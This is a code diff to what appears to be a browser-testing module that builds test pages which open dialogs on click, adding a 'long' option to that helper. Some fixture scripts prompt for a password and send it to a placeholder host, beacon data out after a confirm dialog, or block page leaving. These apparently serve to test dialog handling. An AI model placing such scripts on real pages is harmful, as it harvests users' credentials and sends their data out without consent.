@@ -49,12 +49,13 @@ def _file_form(attributes: str) -> Way:
     return Way(_SEND_FILE, f"<iframe name=f></iframe>{form}<input type=file name=a></form>")
 
 
-def _question(script: str, text: str | None = None) -> Way:
+def _question(script: str, text: str | None = None, *, long: bool = False) -> Way:
     """Return the way of a page that asks when it is clicked, and is answered."""
     return Way(
         f"document.querySelector('p').onclick=()=>{{{script}}}",
         f"<p style='{_PLACE};margin:0'>ask",
         acts=(_CLICK, AnswerDialog(accept=True, text=text)),
+        long=long,
     )
 
 
@@ -145,9 +146,12 @@ QUESTIONS = {
     "prompt": _question(
         "location.href='http://@tcp@/?'+prompt('Your password?','secret')", "secret"
     ),
-    "confirm": _question("if(confirm('Send it?'))navigator.sendBeacon('http://@tcp@/','x')"),
+    "confirm": _question(
+        "if(confirm('Send it?'))navigator.sendBeacon('http://@tcp@/','x')", long=True
+    ),
     "question-before-leaving": _question(
-        "onbeforeunload=event=>event.preventDefault();location.href='http://@tcp@/'"
+        "onbeforeunload=event=>event.preventDefault();location.href='http://@tcp@/'",
+        long=True,
     ),
 }
 """What a page does with an answer."""
